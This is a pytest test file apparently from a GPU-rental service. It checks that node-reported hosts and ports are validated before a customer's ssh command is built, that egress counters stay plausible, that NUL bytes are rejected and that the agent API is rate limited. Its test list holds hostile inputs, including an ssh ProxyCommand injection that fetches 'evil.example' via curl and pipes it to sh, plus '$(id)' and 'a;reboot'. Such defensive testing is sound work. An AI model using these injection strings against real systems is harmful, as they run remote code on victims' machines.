"""What a node reports is bounded — hosts and ports are host names/addresses and
port numbers (the customer's ssh line is built from them), an egress counter cannot grow
faster than the link, a NUL anywhere in a signed report is a clean 400, and the agents' API
is rate limited."""
import json

import pytest
from django.test import Client
from django.utils import timezone

from billing.models import EgressUsage
from fleet.models import Evidence, InstanceReport, NodeAgent
from fleet.services import enrolment_code_create
from rental.addresses import ssh_command, valid_host, valid_port
from rental.models import LeaseState

from .conftest import FakeNode, node_of, ready

pytestmark = pytest.mark.django_db
EVIL_HOSTS = ["x -oProxyCommand='sh -c \"curl https://evil.example|sh\"'", "-oProxyCommand=sh", "a;reboot",
              "host name", "bad-.example", "$(id)", "[::1]", "", "a" * 254, "例え.jp", "1.2.3.4\n"]


@pytest.mark.parametrize("host", EVIL_HOSTS)
def test_what_is_not_a_host_is_refused(host):
    assert valid_host(host) is None and ssh_command(host, 22) == ""


@pytest.mark.parametrize("host, canonical", [("203.0.113.7", "203.0.113.7"), ("2001:DB8::0:1", "2001:db8::1"),
                                             ("Node-1.DFW.example.net", "node-1.dfw.example.net")])
def test_hosts_and_the_ssh_line(host, canonical):
    assert valid_host(host) == canonical
    assert ssh_command(host, 22042) == f"ssh -p 22042 root@{canonical}"


@pytest.mark.parametrize("port", [0, 65536, -1, "22", 22.0, True, None])
def test_what_is_not_a_port_is_refused(port):
    assert valid_port(port) is None and ssh_command("203.0.113.7", port) == ""


def test_a_node_cannot_make_the_customers_ssh_line_run_a_command(paid_lease, enrol):
    lease = paid_lease()
    node = enrol(node_of(lease))
    evil = EVIL_HOSTS[0]
    response = node.post(node.body(public_host=evil))
    assert response.json()["refused"] == [{"item": "public_host", "error": "invalid"}]
    assert NodeAgent.objects.get(node=node.node).public_host in ("", None)
    record = node.evidence("instance_ready", lease, ssh_port=22042, host=evil, gpus=["GPU-0"], image="pytorch")
    response = node.post(node.body(public_host=None, evidence=[record]))
    assert {"item": "evidence[0]", "error": "invalid_address"} in response.json()["refused"]
    for port in (0, 70000, "22"):
        record = node.evidence("instance_ready", lease, ssh_port=port, host="203.0.113.7", gpus=[], image="pytorch")
        assert {"item": "evidence[0]", "error": "invalid_address"} in node.post(
            node.body(public_host=None, evidence=[record])).json()["refused"]
    lease.refresh_from_db()
    assert lease.state == LeaseState.PROVISIONING and lease.ssh_command == "" and not Evidence.objects.exists()
    node.report(evidence=[ready(node, lease)])
    lease.refresh_from_db()
    assert lease.ssh_command == "ssh -p 22042 root@203.0.113.7"


def test_an_egress_counter_cannot_grow_faster_than_the_link(paid_lease, enrol, settings):
    lease = paid_lease()
    node = enrol(node_of(lease))
    node.report(evidence=[ready(node, lease)])

    def instance(sent):
        return [{"lease_id": lease.pk, "op_id": f"{lease.pk}:running:1", "state": "running", "ssh_port": 22042,
                 "egress_bytes": sent, "error": None}]

    assert node.report(instances=instance(10**6)).json()["accepted"] == ["instances[0]"]
    response = node.report(instances=instance(10**15))  # 1 PB, a second after the last report
    assert response.json()["refused"] == [{"item": "instances[0]", "error": "egress_implausible"}]
    assert InstanceReport.objects.get(lease=lease).egress_counter == 10**6
    assert EgressUsage.objects.get(lease=lease).tb_used < 1
    # What the link can carry in the time is accepted.
    assert node.report(instances=instance(10**6 + settings.EGRESS_SLACK_BYTES // 2)).json()["accepted"]


@pytest.mark.parametrize("where", ["agent_version", "gpu_problem", "instance_error"])
def test_a_nul_in_a_signed_report_is_a_clean_400(paid_lease, enrol, where):
    lease = paid_lease()
    node = enrol(node_of(lease))
    items = {
        "agent_version": {"agent_version": "0.1\x00"},
        "gpu_problem": {"gpus": [{"index": 0, "uuid": "GPU-1", "healthy": False, "problem": "Xid\x00 79"}]},
        "instance_error": {"instances": [{"lease_id": lease.pk, "op_id": "x", "state": "failed", "ssh_port": None,
                                          "egress_bytes": 0, "error": {"code": "boom", "detail": "a\x00b"}}]},
    }[where]
    response = node.post(node.body(**items))
    assert response.status_code == 400 and response["Content-Type"] == "application/json"
    assert response.json() == {"error": "invalid_json"}
    assert not InstanceReport.objects.exists()


def test_the_agents_api_is_rate_limited(catalog, operator, settings):
    from inventory.models import Node

    settings.NODE_ENROLMENTS_PER_IP_PER_MINUTE = 3
    settings.NODE_REQUESTS_PER_CREDENTIAL_PER_MINUTE = 4
    settings.NODE_POLL_SECONDS = 60  # the limit never goes below 4 calls per poll interval
    node = Node.objects.first()
    guesser = Client(REMOTE_ADDR="203.0.113.66")
    answers = [guesser.post("/agent/v1/enrol", json.dumps({"code": f"guess{n}", "public_key": "x"}),
                            content_type="application/json").status_code for n in range(5)]
    assert answers == [400, 400, 400, 429, 429]
    blocked = guesser.post("/agent/v1/enrol", "{}", content_type="application/json")
    assert blocked.json() == {"error": "rate_limited"} and blocked["Retry-After"] == "60"
    # Guessing credentials is limited the same way.
    answers = [guesser.get("/agent/v1/desired", HTTP_AUTHORIZATION="Node nope").status_code for _ in range(4)]
    assert answers == [401, 401, 401, 429]
    # An honest node from another address enrols, then is limited per credential.
    agent = FakeNode(node, Client(REMOTE_ADDR="198.51.100.3"))
    assert agent.enrol(enrolment_code_create(node=node, actor=operator, now=timezone.now())).status_code == 200
    answers = [agent.desired().status_code for _ in range(5)]
    assert answers == [200, 200, 200, 200, 429]
